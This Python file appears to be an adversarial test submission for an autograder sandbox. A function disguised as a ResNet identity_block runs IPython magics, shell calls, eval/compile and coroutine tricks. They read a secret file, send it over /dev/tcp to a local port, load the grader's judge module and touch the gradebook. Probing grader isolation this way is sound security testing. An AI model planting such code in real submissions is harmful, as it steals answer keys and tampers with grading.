"""Runs the shell, files and code by IPython's magics, transformers, exec, eval, compile and a coroutine."""

ATTACK = True
READ = "open(SECRET).read()"


def tricks():
    from IPython.core.interactiveshell import InteractiveShell

    shell = InteractiveShell.instance(user_ns=globals())
    shell.input_transformers_post.append(lambda lines: [READ])
    yield lambda: shell.run_cell(READ).raise_error()
    yield lambda: shell.getoutput(f"cat {SECRET}")
    yield lambda: shell.run_cell_magic("bash", "", f"cat {SECRET} > /dev/tcp/127.0.0.1/{PORT}")
    yield lambda: shell.run_line_magic("run", SECRET)
    yield lambda: shell.run_line_magic("load_ext", "autograder.judge.examination")
    yield lambda: shell.system(f"touch {GRADEBOOK}.new")
    yield lambda: eval(compile(f"\f# coding: utf-7\n{READ}", "cell 1", "eval"))
    yield lambda: exec(
        f"async def read():\n return {READ}\ntry: read().send(None)\nexcept StopIteration as end: raise ValueError(end.value)"
    )


def identity_block(X, f, filters, stage=1, block="a", training=None, initializer=glorot_uniform):
    if ATTACK:
        told = []
        for trick in tricks():
            try:
                told.append(trick())
            except (Exception, SystemExit) as error:
                told.append(error)
        raise ValueError(str(told))
    return X
